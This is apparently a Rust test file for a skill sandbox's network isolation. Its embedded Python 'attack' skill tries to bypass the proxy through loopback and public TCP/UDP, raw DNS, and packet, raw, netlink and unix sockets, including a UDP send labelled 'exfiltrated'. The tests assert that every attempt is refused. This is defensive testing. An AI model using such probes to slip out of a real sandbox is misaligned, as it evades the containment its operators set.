//! Attacks of a network call's program that ignores its proxy (docs/sandbox.md: "a program
//! that ignores the proxy gets nothing"), each asserting the refusal and its reason: TCP to
//! the host's loopback (the namespace's loopback is the call's own, where nothing listens
//! on that port: `ECONNREFUSED`, and the host's listener sees nothing), UDP to it (nothing
//! arrives), TCP and UDP to public addresses (no route in the namespace, `ENETUNREACH`),
//! DNS through the system resolver, and the socket families the network filter keeps
//! closed (`AF_PACKET`, raw, `AF_NETLINK`, `AF_UNIX`: `EPERM`). And a tool of a skill
//! without network still cannot make any socket.

use std::net::UdpSocket;
use std::time::Duration;

use serde_json::json;

use super::context_files::sandbox;
use super::egress::{namespaces_available, network_skill, run_in};
use super::harness::fake_core::FakeCore;
use super::harness::{assert_errno, SkillRoot};

/// The attempts every attack makes (see [`PRELUDE`](super::harness::PRELUDE)'s `attempt`).
const ATTACKS: &str = r#"
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((host, port))
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrated", (host, port))
reply({
    "host_tcp": attempt(lambda: tcp("127.0.0.1", args["tcp_port"])),
    "host_tcp6": attempt(lambda: tcp("::1", args["tcp_port"], socket.AF_INET6)),
    "host_udp": attempt(lambda: udp("127.0.0.1", args["udp_port"])),
    "public_tcp_proxy_port": attempt(lambda: tcp("8.8.8.8", 3128)),
    "public_tcp_https": attempt(lambda: tcp("1.1.1.1", 443)),
    "public_udp_dns": attempt(lambda: udp("8.8.8.8", 53)),
    "dns": attempt(lambda: socket.getaddrinfo("example.com", 443)),
    "packet": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "raw": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "netlink": attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)),
    "unix": attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)),
    "proxy_env": os.environ.get("HTTP_PROXY"),
})
"#;

#[test]
fn network_call_cannot_go_around_its_proxy() {
    if !namespaces_available("network_call_cannot_go_around_its_proxy") {
        return;
    }
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let root = SkillRoot::new();
    network_skill(&root, "attack", ATTACKS);
    let core = FakeCore::default();
    let args = json!({
        "tcp_port": tcp.local_addr().unwrap().port(),
        "udp_port": udp.local_addr().unwrap().port(),
    });
    let r = run_in(&sandbox(), &root, &core, "attack", args);
    assert!(r.success, "{r:?}");
    let out = r.data.unwrap();
    assert_eq!(
        out["proxy_env"], "http://127.0.0.1:3128",
        "a network call: {out}"
    );
    // The namespace's loopback is the call's own: the host's port is not there.
    let refused = libc::ECONNREFUSED;
    assert_errno(&out["host_tcp"], refused, "TCP to the host's loopback");
    assert_errno(&out["host_tcp6"], refused, "TCP to the host's ::1");
    tcp.set_nonblocking(true).unwrap();
    assert!(
        tcp.accept().is_err(),
        "a connection reached the host's loopback: {out}"
    );
    // The namespace: no route out.
    let unreachable = libc::ENETUNREACH;
    assert_errno(&out["public_tcp_https"], unreachable, "TCP to 1.1.1.1:443");
    assert_errno(
        &out["public_tcp_proxy_port"],
        unreachable,
        "TCP to 8.8.8.8:3128",
    );
    assert_errno(&out["public_udp_dns"], unreachable, "UDP to 8.8.8.8:53");
    // UDP to 127.0.0.1 stays on the namespace's own loopback.
    let mut got = [0u8; 64];
    assert!(
        udp.recv_from(&mut got).is_err(),
        "a datagram reached the host's loopback: {out}"
    );
    assert_eq!(
        out["dns"]["ok"], false,
        "DNS resolved without the proxy: {out}"
    );
    // The network filter: IP TCP/UDP sockets only.
    for family in ["packet", "raw", "netlink", "unix"] {
        assert_errno(&out[family], libc::EPERM, family);
    }
    assert!(
        core.proxy.served().is_empty(),
        "nothing went through the proxy"
    );
}

#[test]
fn tool_without_network_still_cannot_make_a_socket() {
    let root = SkillRoot::new();
    root.python_skill(
        "offline",
        r#"
        reply({
            "inet": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)),
            "inet_udp": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
            "proxy_env": os.environ.get("HTTP_PROXY"),
        })
        "#,
    );
    let core = FakeCore::default();
    let r = run_in(&sandbox(), &root, &core, "offline", json!({}));
    assert!(r.success, "{r:?}");
    let out = r.data.unwrap();
    assert_errno(&out["inet"], libc::EPERM, "socket(AF_INET, SOCK_STREAM)");
    assert_errno(&out["inet_udp"], libc::EPERM, "socket(AF_INET, SOCK_DGRAM)");
    assert_eq!(out["proxy_env"], serde_json::Value::Null, "{out}");
}
